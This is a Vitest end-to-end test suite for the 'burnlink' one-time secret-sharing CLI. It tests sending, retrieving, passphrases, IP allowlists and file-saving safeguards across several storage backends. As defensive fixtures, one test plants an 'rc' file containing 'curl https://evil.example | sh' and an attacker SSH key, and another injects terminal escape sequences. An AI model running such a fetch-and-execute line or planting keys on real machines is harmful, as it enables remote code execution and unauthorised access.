/**
 * The built `burnlink` command against the real server (lib/server/start.mjs) on every
 * store: memory, Redis, Redis Cluster (three real nodes) and Upstash (the REST bridge in
 * front of a real redis-server).
 * Everything goes through the child process's argv, stdin, stdout, stderr and exit code,
 * as a script would see it.
 */
import { randomBytes } from "node:crypto";
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EXIT } from "@/lib/cli/exit-codes";
import cliPackageJson from "@/lib/cli/package.json";
import { freePort } from "../support/free-port";
import { startNextServer, type NextServer } from "../support/next-server";
import { startRedisCluster, startRedisServer, type RedisServer } from "../support/redis-server";
import { startUpstashBridge, type UpstashBridge } from "../support/upstash-bridge";
import { buildCli, LAUNCHER, runCli, runOnTerminal, type CliResult } from "./cli-harness";

const SHARE_LINK = /^http:\/\/127\.0\.0\.1:\d+\/s#[kp][A-Za-z0-9_-]{43}$/;
const MANAGE_LINK = /http:\/\/127\.0\.0\.1:\d+\/m#m[A-Za-z0-9_-]{65}/;
/** Small enough to exhaust quickly; the default (5) behaves the same. */
const SERVER_ENV = { PASSPHRASE_ATTEMPTS: "2" };

let workDir: string;

beforeAll(async () => {
  await buildCli();
  workDir = await mkdtemp(join(tmpdir(), "burnlink-cli-"));
});

afterAll(async () => {
  await rm(workDir, { recursive: true, force: true });
});

async function freshDir(name: string): Promise<string> {
  const dir = join(workDir, `${name}-${randomBytes(4).toString("hex")}`);
  await mkdir(dir);
  return dir;
}

function expectExit(result: CliResult, code: number, stderr?: RegExp): void {
  const context = `exit ${result.code}, stderr: ${result.stderr}`;
  expect(result.code, context).toBe(code);
  if (stderr) expect(result.stderr, context).toMatch(stderr);
  if (code !== 0) {
    // One line, prefixed, naming what to do.
    expect(result.stderr.trimEnd().split("\n"), context).toHaveLength(1);
    expect(result.stderr, context).toMatch(/^burnlink: /);
  }
}

/** `burnlink send` that must succeed; returns both links. */
async function send(server: string, args: string[], options: Parameters<typeof runCli>[1] = {}) {
  const result = await runCli(["send", "--server", server, ...args], options);
  expectExit(result, 0);
  const shareLink = result.stdout.trimEnd();
  expect(shareLink).toMatch(SHARE_LINK);
  const manageLink = MANAGE_LINK.exec(result.stderr)?.[0];
  expect(manageLink, result.stderr).toBeDefined();
  return { shareLink, manageLink: manageLink ?? "", stderr: result.stderr };
}

interface StoreSetup {
  name: string;
  start(): Promise<{ env: Record<string, string>; stop(): Promise<void> }>;
}

const STORES: StoreSetup[] = [
  { name: "memory", start: async () => ({ env: {}, stop: async () => {} }) },
  {
    name: "redis",
    start: async () => {
      const redis = await startRedisServer();
      return { env: { REDIS_URL: redis.url }, stop: () => redis.stop() };
    },
  },
  {
    name: "redis-cluster",
    start: async () => {
      const cluster = await startRedisCluster();
      return { env: { REDIS_CLUSTER_NODES: cluster.seeds.join(",") }, stop: () => cluster.stop() };
    },
  },
  {
    name: "upstash",
    start: async () => {
      const redis = await startRedisServer();
      const bridge: UpstashBridge = await startUpstashBridge({ redisUrl: redis.url });
      return {
        env: { UPSTASH_REDIS_REST_URL: bridge.url, UPSTASH_REDIS_REST_TOKEN: bridge.token },
        stop: async () => {
          await bridge.close();
          await redis.stop();
        },
      };
    },
  },
];

describe.each(STORES)("burnlink against the server on the $name store", (store) => {
  let server: NextServer;
  let stopStore: () => Promise<void>;

  beforeAll(async () => {
    const started = await store.start();
    stopStore = started.stop;
    server = await startNextServer({ env: { ...SERVER_ENV, ...started.env } });
  });

  afterAll(async () => {
    await server?.stop();
    await stopStore?.();
  });

  it("sends text from stdin and gets back exactly the same bytes, once", async () => {
    const secret = "API_KEY=sk_live_123\nPASSWORD=pä$$wörd 😀\n\n  trailing spaces  ";
    const { shareLink, stderr } = await send(server.url, [], { input: secret });
    expect(shareLink.startsWith(`${server.url}/s#k`)).toBe(true);
    expect(stderr).toMatch(/Opens once; expires .* UTC/);

    const got = await runCli(["get", shareLink]);
    expectExit(got, 0);
    expect(got.stdout).toBe(secret);
    expect(got.stderr).toBe("");

    expectExit(await runCli(["get", shareLink]), EXIT.notFound, /already viewed .*someone else/);
  });

  it("sends a --text note without reading stdin", async () => {
    const { shareLink } = await send(server.url, ["--text", "the note"], { input: "ignored" });
    const got = await runCli(["get", shareLink]);
    expectExit(got, 0);
    expect(got.stdout).toBe("the note");
  });

  it("sends several files with a note and saves them byte for byte under their names", async () => {
    const source = await freshDir("send");
    const files = {
      id_ed25519: randomBytes(411),
      "notes with spaces.txt": Buffer.from("line one\r\nline two\n"),
      "random.bin": randomBytes(200_000),
      empty: Buffer.alloc(0),
    };
    for (const [name, bytes] of Object.entries(files)) await writeFile(join(source, name), bytes);

    const sent = await runCli(
      [
        "send",
        "--server",
        server.url,
        "--ttl",
        "1h",
        "--views",
        "1",
        "--json",
        "--text",
        "for you",
        ...Object.keys(files),
      ],
      { cwd: source },
    );
    expectExit(sent, 0);
    const json = JSON.parse(sent.stdout) as Record<string, unknown>;
    expect(Object.keys(json).sort()).toEqual([
      "expiresAt",
      "id",
      "manageLink",
      "maxViews",
      "needsPassphrase",
      "shareLink",
    ]);
    expect(json.shareLink).toMatch(SHARE_LINK);
    expect(json.manageLink).toMatch(MANAGE_LINK);
    expect(json.maxViews).toBe(1);
    expect(json.needsPassphrase).toBe(false);
    const expiresInSeconds = (Date.parse(String(json.expiresAt)) - Date.now()) / 1000;
    expect(expiresInSeconds).toBeGreaterThan(3_500);
    expect(expiresInSeconds).toBeLessThanOrEqual(3_600);

    const target = await freshDir("received");
    const got = await runCli(["get", String(json.shareLink), "-o", target, "--all"]);
    expectExit(got, 0);
    expect(got.stdout).toBe("for you");
    expect((await readdir(target)).sort()).toEqual(Object.keys(files).sort());
    for (const [name, bytes] of Object.entries(files)) {
      expect((await readFile(join(target, name))).equals(bytes), name).toBe(true);
    }
    expect(got.stderr).toMatch(/Saved .*random\.bin, 195\.3 KiB\./);
  });

  it("protects a link with a passphrase from the environment and opens it with one from a file", async () => {
    const { shareLink } = await send(server.url, ["--passphrase"], {
      input: "behind a passphrase",
      env: { BURNLINK_PASSPHRASE: "correct horse battery staple" },
    });
    expect(shareLink).toMatch(/\/s#p/);

    // No terminal and no scripted passphrase: refused before anything is consumed.
    expectExit(await runCli(["get", shareLink]), EXIT.usage, /no terminal .*--passphrase-file/);

    const wrongFile = join(await freshDir("pass"), "wrong.txt");
    await writeFile(wrongFile, "incorrect\n");
    expectExit(
      await runCli(["get", shareLink, "--passphrase-file", wrongFile]),
      EXIT.wrongPassphrase,
      /1 attempt left/,
    );

    const rightFile = join(await freshDir("pass"), "right.txt");
    await writeFile(rightFile, "correct horse battery staple\n");
    const got = await runCli(["get", shareLink, "--passphrase-file", rightFile]);
    expectExit(got, 0);
    expect(got.stdout).toBe("behind a passphrase");
  });

  it("destroys the secret after too many wrong passphrases, and says so", async () => {
    const { shareLink } = await send(server.url, ["--passphrase"], {
      input: "x",
      env: { BURNLINK_PASSPHRASE: "right" },
    });
    const wrong = { env: { BURNLINK_PASSPHRASE: "wrong" } };
    expectExit(await runCli(["get", shareLink], wrong), EXIT.wrongPassphrase, /1 attempt left/);
    expectExit(
      await runCli(["get", shareLink], wrong),
      EXIT.wrongPassphrase,
      /last attempt.*destroyed/,
    );
    expectExit(
      await runCli(["get", shareLink], { env: { BURNLINK_PASSPHRASE: "right" } }),
      EXIT.notFound,
      /too many wrong passphrases/,
    );
  });

  it("opens a multi-view link as often as promised, and --check consumes nothing", async () => {
    const { shareLink } = await send(server.url, ["--views", "2"], { input: "twice" });
    const check = await runCli(["get", "--check", shareLink]);
    expectExit(check, 0);
    expect(check.stdout).toMatch(
      /^Active: opens 2 more times; expires .* UTC \(in 23 hours \d+ min\)\. Nothing was consumed\.\n$/,
    );

    expect((await runCli(["get", shareLink])).stdout).toBe("twice");
    const json = await runCli(["get", "--check", "--json", shareLink]);
    expectExit(json, 0);
    expect(JSON.parse(json.stdout)).toMatchObject({ viewsLeft: 1, needsPassphrase: false });
    expect((await runCli(["get", shareLink])).stdout).toBe("twice");

    expectExit(await runCli(["get", shareLink]), EXIT.notFound, /already viewed/);
    expectExit(await runCli(["get", "--check", shareLink]), EXIT.notFound, /already viewed/);
  });

  it("refuses an address outside the allowlist with the refused exit code, and admits one inside it", async () => {
    const blocked = await send(
      server.url,
      ["--allow-ip", "192.0.2.0/24", "--allow-ip", "2001:db8::/32"],
      { input: "x" },
    );
    expectExit(
      await runCli(["get", blocked.shareLink]),
      EXIT.refused,
      /only from certain IP addresses/,
    );
    const status = await runCli(["status", "--json", blocked.manageLink]);
    expectExit(status, 0);
    const parsed = JSON.parse(status.stdout) as {
      state: string;
      allowedIps: string[];
      events: Array<{ type: string }>;
    };
    expect(parsed.state).toBe("active");
    expect(parsed.allowedIps).toEqual(["192.0.2.0/24", "2001:db8::/32"]);
    expect(parsed.events.map((event) => event.type)).toContain("ip_blocked");

    const allowed = await send(server.url, ["--allow-ip", "127.0.0.1"], { input: "local only" });
    expect((await runCli(["get", allowed.shareLink])).stdout).toBe("local only");
  });

  it("shows the status and timeline, burns, and then reports the secret gone", async () => {
    const { shareLink, manageLink } = await send(server.url, ["--views", "3"], {
      input: "to be burned",
    });
    const before = await runCli(["status", manageLink]);
    expectExit(before, 0);
    expect(before.stdout).toMatch(/^State: +active, opens 3 more times \(of 3\)$/m);
    expect(before.stdout).toMatch(
      /^Timeline:\n {2}\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC {2}created( +from 127\.0\.0\.0\/24)?$/m,
    );

    expect((await runCli(["get", shareLink])).stdout).toBe("to be burned");
    const viewed = await runCli(["status", manageLink]);
    expect(viewed.stdout).toMatch(/opens 2 more times/);
    expect(viewed.stdout).toMatch(/UTC {2}viewed +from 127\.0\.0\.0\/24$/m);

    const burned = await runCli(["burn", manageLink]);
    expectExit(burned, 0);
    expect(burned.stdout).toMatch(/^Burned: /);
    expectExit(await runCli(["get", shareLink]), EXIT.notFound, /sender burned/);

    const after = await runCli(["status", "--json", manageLink]);
    expect(JSON.parse(after.stdout)).toMatchObject({ state: "burned", viewsLeft: 0 });
    const again = await runCli(["burn", manageLink]);
    expectExit(again, 0);
    expect(again.stdout).toMatch(/^Already gone \(burned .*\); nothing to burn\.$/m);
  });

  it("answers not found for a well-formed link nobody created, on get, status and burn", async () => {
    const key = randomBytes(32).toString("base64url");
    const manage = `${server.url}/m#m${randomBytes(16).toString("base64url")}${randomBytes(32).toString("base64url")}`;
    expectExit(await runCli(["get", `${server.url}/s#k${key}`]), EXIT.notFound, /no such secret/);
    expectExit(await runCli(["status", manage]), EXIT.notFound, /no secret for this manage link/);
    expectExit(await runCli(["burn", manage]), EXIT.notFound, /no secret for this manage link/);
  });
});

describe("burnlink against one server (memory store)", () => {
  let server: NextServer;

  beforeAll(async () => {
    server = await startNextServer({ env: SERVER_ENV });
  });

  afterAll(async () => {
    await server?.stop();
  });

  it("checks --ttl and --views against the server's limits before reading or sending anything", async () => {
    expectExit(
      await runCli(["send", "--server", server.url, "--ttl", "30s"], { input: "x" }),
      EXIT.usage,
      /1m to 7d/,
    );
    expectExit(
      await runCli(["send", "--server", server.url, "--ttl", "8d"], { input: "x" }),
      EXIT.usage,
      /1m to 7d/,
    );
    expectExit(
      await runCli(["send", "--server", server.url, "--views", "11"], { input: "x" }),
      EXIT.usage,
      /at most 10/,
    );
  });

  it("refuses a secret too large for the server before uploading it", async () => {
    const dir = await freshDir("large");
    await writeFile(join(dir, "big.bin"), randomBytes(1024 * 1024));
    const result = await runCli(["send", "--server", server.url, "big.bin"], { cwd: dir });
    expectExit(result, EXIT.refused, /takes at most 1\.00 MiB/);
    expect(result.stdout).toBe("");
    expectExit(
      await runCli(["send", "--server", server.url], { input: randomBytes(1100 * 1024) }),
      EXIT.refused,
      /at most/,
    );
  });

  it("prints no progress into a pipe, even for a large file", async () => {
    const dir = await freshDir("quiet");
    await writeFile(join(dir, "large.bin"), randomBytes(900 * 1024));
    const result = await runCli(["send", "--server", server.url, "large.bin"], { cwd: dir });
    expectExit(result, 0);
    expect(result.stderr).not.toMatch(/[\r\u001b]|Encrypting|Uploading/);
    expect(result.stderr.trimEnd().split("\n")).toHaveLength(2);
  });

  it("shows progress on a terminal for a large file, and erases the line afterwards", async () => {
    const source = await freshDir("progress");
    await writeFile(join(source, "large.bin"), randomBytes(600 * 1024));
    const node = `'${process.execPath}' '${LAUNCHER}'`;
    const sent = await runOnTerminal(
      `cd '${source}' && ${node} send --server ${server.url} large.bin > link.txt`,
      [],
    );
    expect(sent.code, sent.screen).toBe(0);
    expect(sent.screen).toMatch(/Encrypting \d+\.\d+ KiB…/);
    expect(sent.screen).toMatch(/Uploading \d+\.\d+ KiB…/);
    expect(sent.screen).toContain("\r\u001b[2K");

    const shareLink = (await readFile(join(source, "link.txt"), "utf8")).trimEnd();
    const target = await freshDir("progress-get");
    const got = await runOnTerminal(`cd '${target}' && ${node} get --all '${shareLink}'`, []);
    expect(got.code, got.screen).toBe(0);
    expect(got.screen).toMatch(/Downloading/);
    expect(got.screen).toMatch(/That was the last view/);
    expect((await readFile(join(target, "large.bin"))).length).toBe(600 * 1024);
  });

  it("escapes terminal control sequences when the text goes to a terminal, and keeps the exact bytes in a pipe", async () => {
    const hostile = "user=root\u001b]0;owned\u0007\u001b[2J\n";
    const onTerminal = await send(server.url, [], { input: hostile });
    const shown = await runOnTerminal(
      `'${process.execPath}' '${LAUNCHER}' get '${onTerminal.shareLink}'`,
      [],
    );
    expect(shown.code, shown.screen).toBe(0);
    expect(shown.screen).toContain("user=root\\u001b]0;owned\\u0007\\u001b[2J");
    expect(shown.screen).not.toContain("\u001b]0;owned");
    expect(shown.screen).toMatch(/shown as \\u escapes; redirect to a file for the exact bytes/);

    const piped = await send(server.url, [], { input: hostile });
    expect((await runCli(["get", piped.shareLink])).stdout).toBe(hostile);
  });

  it("refuses unreadable input as a usage error: a missing file, a directory, empty or non-UTF-8 stdin", async () => {
    const dir = await freshDir("input");
    expectExit(
      await runCli(["send", "--server", server.url, "missing.txt"], { cwd: dir }),
      EXIT.usage,
      /cannot read missing\.txt: no such file/,
    );
    expectExit(
      await runCli(["send", "--server", server.url, "."], { cwd: dir }),
      EXIT.usage,
      /is a directory/,
    );
    expectExit(
      await runCli(["send", "--server", server.url], { input: "" }),
      EXIT.usage,
      /stdin was empty/,
    );
    expectExit(
      await runCli(["send", "--server", server.url], { input: Buffer.from([0xff, 0xfe, 0x00]) }),
      EXIT.usage,
      /not UTF-8 .*as a file/,
    );
  });

  it("refuses a missing output directory before consuming the view", async () => {
    const { shareLink } = await send(server.url, ["--text", "note"]);
    expectExit(
      await runCli(["get", shareLink, "-o", join(workDir, "no-such-dir")]),
      EXIT.usage,
      /does not exist/,
    );
    expect((await runCli(["get", shareLink])).stdout).toBe("note");
  });

  it("never overwrites an existing file, and refuses --force before consuming the view", async () => {
    const source = await freshDir("src");
    await writeFile(join(source, "config.yml"), "from the sender");
    const target = await freshDir("dst");
    await writeFile(join(target, "config.yml"), "mine");

    const { shareLink } = await send(server.url, ["config.yml"], { cwd: source });
    expectExit(
      await runCli(["get", shareLink, "--force"], { cwd: target }),
      EXIT.usage,
      /--force is gone: burnlink get never replaces a file/,
    );
    const kept = await runCli(["get", shareLink, "--all"], { cwd: target });
    expectExit(kept, 0);
    expect(await readFile(join(target, "config.yml"), "utf8")).toBe("mine");
    expect(await readFile(join(target, "config-2.yml"), "utf8")).toBe("from the sender");
    expect(kept.stderr).toMatch(/Saved \.\/config-2\.yml/);
  });

  it("saves sender-named files in a fresh folder by default, so none can land beside the user's own", async () => {
    const source = await freshDir("plant");
    await writeFile(join(source, "authorized_keys"), "ssh-ed25519 AAAA attacker");
    await writeFile(join(source, "rc"), "curl https://evil.example | sh");
    const target = await freshDir("home-ssh");
    const { shareLink } = await send(server.url, ["authorized_keys", "rc"], { cwd: source });

    const got = await runCli(["get", shareLink, "-o", target]);
    expectExit(got, 0);
    const entries = await readdir(target);
    expect(entries).toHaveLength(1);
    const folder = entries[0] ?? "";
    expect(folder).toMatch(/^burnlink-\d{8}-\d{6}$/);
    expect((await readdir(join(target, folder))).sort()).toEqual(["authorized_keys", "rc"]);
    expect(await readFile(join(target, folder, "rc"), "utf8")).toBe(
      "curl https://evil.example | sh",
    );
    expect(got.stderr).toMatch(
      /Saved in a new folder, .*burnlink-\d{8}-\d{6}: the sender chose these names/,
    );
    expect(got.stderr).toMatch(/--only NAME\) or pass --all/);
  });

  it("saves the files named with --only in the directory itself and any other in a fresh folder", async () => {
    const source = await freshDir("only-src");
    for (const name of ["cert.pem", "key.pem", "config"]) await writeFile(join(source, name), name);
    const { shareLink } = await send(server.url, ["cert.pem", "key.pem", "config"], {
      cwd: source,
    });
    const target = await freshDir("only-dst");
    const got = await runCli(["get", shareLink, "--only", "cert.pem", "--only", "key.pem"], {
      cwd: target,
    });
    expectExit(got, 0);
    expect(await readFile(join(target, "cert.pem"), "utf8")).toBe("cert.pem");
    expect(await readFile(join(target, "key.pem"), "utf8")).toBe("key.pem");
    const folder = (await readdir(target)).find((name) => name.startsWith("burnlink-")) ?? "";
    expect(await readdir(join(target, folder))).toEqual(["config"]);
    expect(await readdir(target)).not.toContain("config");

    const exact = await send(server.url, ["cert.pem"], { cwd: source });
    const only = await freshDir("only-exact");
    expectExit(await runCli(["get", exact.shareLink, "--only", "cert.pem"], { cwd: only }), 0);
    expect(await readdir(only)).toEqual(["cert.pem"]);
  });

  it("fails after showing and saving everything when a name given to --only is not in the secret", async () => {
    const source = await freshDir("missing-src");
    await writeFile(join(source, "id_ed25519"), "key");
    const { shareLink } = await send(server.url, ["id_ed25519"], { cwd: source });
    const target = await freshDir("missing-dst");
    const got = await runCli(["get", shareLink, "--only", "id_rsa"], { cwd: target });
    expect(got.code, got.stderr).toBe(EXIT.other);
    expect(got.stderr).toMatch(
      /^burnlink: the secret has no file named "id_rsa"; everything it has is shown or saved/m,
    );
    const folder = (await readdir(target))[0] ?? "";
    expect(await readFile(join(target, folder, "id_ed25519"), "utf8")).toBe("key");
    const textOnly = await send(server.url, ["--text", "no files here"]);
    const noFile = await runCli(["get", textOnly.shareLink, "--only", "id_rsa"], { cwd: target });
    expect(noFile.code, noFile.stderr).toBe(EXIT.other);
    expect(noFile.stdout).toBe("no files here");
  });

  it("prints links in PROTOCOL.md §2 form under the server's origin, even with a trailing slash in --server", async () => {
    const result = await runCli(["send", "--server", `${server.url}/`, "--json"], { input: "x" });
    expectExit(result, 0);
    const { shareLink, manageLink } = JSON.parse(result.stdout) as {
      shareLink: string;
      manageLink: string;
    };
    expect(shareLink).toMatch(new RegExp(`^${server.url}/s#k[A-Za-z0-9_-]{43}$`));
    expect(manageLink).toMatch(new RegExp(`^${server.url}/m#m[A-Za-z0-9_-]{65}$`));
  });

  it("takes the server from BURNLINK_SERVER", async () => {
    const result = await runCli(["send"], { input: "x", env: { BURNLINK_SERVER: server.url } });
    expectExit(result, 0);
    expect(result.stdout.startsWith(`${server.url}/s#k`)).toBe(true);
  });

  it("asks for the passphrase on the terminal without echoing it, while stdin carries the secret", async () => {
    const linkFile = join(await freshDir("tty"), "link.txt");
    const command = `printf %s 'typed secret' | '${process.execPath}' '${LAUNCHER}' send --passphrase --server ${server.url} > '${linkFile}'`;
    const sent = await runOnTerminal(command, [
      // An arrow key and a Home key in the middle are dropped whole (issue 10 item 18).
      { waitFor: "Passphrase: ", type: "open-\u001b[Dsesame-42\r" },
      { waitFor: "Passphrase again: ", type: "open-sesame\u001bOH-42\r" },
    ]);
    expect(sent.code, sent.screen).toBe(0);
    expect(sent.screen).not.toContain("open-sesame-42");
    expect(sent.screen).toMatch(MANAGE_LINK);
    const shareLink = (await readFile(linkFile, "utf8")).trimEnd();
    expect(shareLink).toMatch(/\/s#p/);

    // A wrong answer gets another prompt (it counts as an attempt); the right one reveals.
    const got = await runOnTerminal(`'${process.execPath}' '${LAUNCHER}' get '${shareLink}'`, [
      { waitFor: "Passphrase: ", type: "hunter2-typed\r" },
      { waitFor: "Passphrase: ", type: "open-sesame-42\r" },
    ]);
    expect(got.code, got.screen).toBe(0);
    expect(got.screen).toMatch(/Wrong passphrase; 1 attempt left/);
    expect(got.screen).toContain("typed secret");
    expect(got.screen).not.toContain("hunter2-typed");
    expect(got.screen).not.toContain("open-sesame-42");
  });

  it("refuses two different passphrases at the prompt and sends nothing", async () => {
    const result = await runOnTerminal(
      `printf x | '${process.execPath}' '${LAUNCHER}' send --passphrase --server ${server.url}`,
      [
        { waitFor: "Passphrase: ", type: "first\r" },
        { waitFor: "Passphrase again: ", type: "second\r" },
      ],
    );
    expect(result.code, result.screen).toBe(EXIT.usage);
    expect(result.screen).toMatch(/the two passphrases differ; nothing was sent/);
    expect(result.screen).not.toMatch(/\/s#/);
  });

  it("stops with exit 130 when Ctrl-C is pressed at the prompt", async () => {
    const { shareLink } = await send(server.url, ["--passphrase"], {
      input: "x",
      env: { BURNLINK_PASSPHRASE: "p" },
    });
    const result = await runOnTerminal(`'${process.execPath}' '${LAUNCHER}' get '${shareLink}'`, [
      { waitFor: "Passphrase: ", type: "\u0003" },
    ]);
    expect(result.code, result.screen).toBe(EXIT.interrupted);
    expect((await runCli(["get", shareLink], { env: { BURNLINK_PASSPHRASE: "p" } })).stdout).toBe(
      "x",
    );
  });

  it("refuses a manage link given to get, and a share link given to status, naming the right command", async () => {
    const { shareLink, manageLink } = await send(server.url, [], { input: "x" });
    expectExit(
      await runCli(["get", manageLink]),
      EXIT.usage,
      /manage link, not a share link.*burnlink status/,
    );
    expectExit(
      await runCli(["status", shareLink]),
      EXIT.usage,
      /share link, not a manage link.*burnlink get/,
    );
    expectExit(await runCli(["burn", shareLink]), EXIT.usage, /share link, not a manage link/);
  });
});

describe("burnlink without a working server", () => {
  let closedPort: number;

  beforeAll(async () => {
    closedPort = await freePort();
  });

  it("exits 6 and names the server when nothing listens there", async () => {
    const down = `http://127.0.0.1:${closedPort}`;
    expectExit(
      await runCli(["send", "--server", down], { input: "x" }),
      EXIT.unavailable,
      new RegExp(`cannot reach ${down}.*ECONNREFUSED`),
    );
    const key = randomBytes(32).toString("base64url");
    expectExit(await runCli(["get", `${down}/s#k${key}`]), EXIT.unavailable, /cannot reach/);
    const manage = `${down}/m#m${randomBytes(16).toString("base64url")}${key}`;
    expectExit(await runCli(["status", manage]), EXIT.unavailable, /cannot reach/);
    expectExit(await runCli(["burn", manage]), EXIT.unavailable, /cannot reach/);
  });

  it("exits 6 when the server's store is down", async () => {
    const redis: RedisServer = await startRedisServer();
    const server = await startNextServer({ env: { REDIS_URL: redis.url } });
    try {
      const { shareLink } = await send(server.url, [], { input: "x" });
      await redis.kill();
      expectExit(
        await runCli(["send", "--server", server.url], { input: "x" }),
        EXIT.unavailable,
        /unavailable/,
      );
      expectExit(await runCli(["get", shareLink]), EXIT.unavailable, /unavailable/);
    } finally {
      await server.stop();
      await redis.stop();
    }
  });

  it.each([
    ["an empty link", ""],
    ["a truncated link", "http://127.0.0.1:9/s#kAAAA"],
    ["a link without a fragment", "http://127.0.0.1:9/s"],
    ["a link with a wrong kind letter", `http://127.0.0.1:9/s#x${"A".repeat(43)}`],
    ["a link with characters outside base64url", `http://127.0.0.1:9/s#k${"A".repeat(42)}=`],
    ["a link that is not a URL", "burnlink://nope"],
    ["a link to another page", `http://127.0.0.1:9/x#k${"A".repeat(43)}`],
  ])("exits 2 for %s without contacting any server", async (_, link) => {
    // Port 9 (discard) has no server: reaching the network would exit 6, not 2.
    expectExit(await runCli(["get", link]), EXIT.usage, /malformed link: /);
  });

  it("exits 2 for a malformed manage link", async () => {
    expectExit(
      await runCli(["status", "http://127.0.0.1:9/m#mAAAA"]),
      EXIT.usage,
      /malformed link: .*incomplete/,
    );
  });
});

describe("burnlink's command line", () => {
  it("prints the main help with the exit codes, and exits 0", async () => {
    const result = await runCli(["--help"]);
    expectExit(result, 0);
    expect(result.stdout).toMatch(/burnlink send \[FILE\.\.\.\]/);
    expect(result.stdout).toMatch(/Exit codes:\n {4}0 {2}success/);
    expect(result.stdout).toMatch(/ {4}6 {2}network error, or the server is unavailable/);
  });

  it.each(["send", "get", "status", "burn"])("prints help for %s", async (command) => {
    const result = await runCli([command, "--help"]);
    expectExit(result, 0);
    expect(result.stdout).toMatch(new RegExp(`^Usage: burnlink ${command}`));
  });

  it("prints the CLI package's version", async () => {
    const result = await runCli(["--version"]);
    expectExit(result, 0);
    expect(result.stdout).toBe(`burnlink ${cliPackageJson.version}\n`);
  });

  it.each([
    [["nope"], /unknown command "nope"/],
    [["send", "--views"], /--views needs a value/],
    [["send", "--ttl", "forever"], /not a duration/],
    [["get"], /needs the share link/],
  ])("exits 2 with one line for %j", async (argv, message) => {
    expectExit(await runCli(argv), EXIT.usage, message);
  });
});
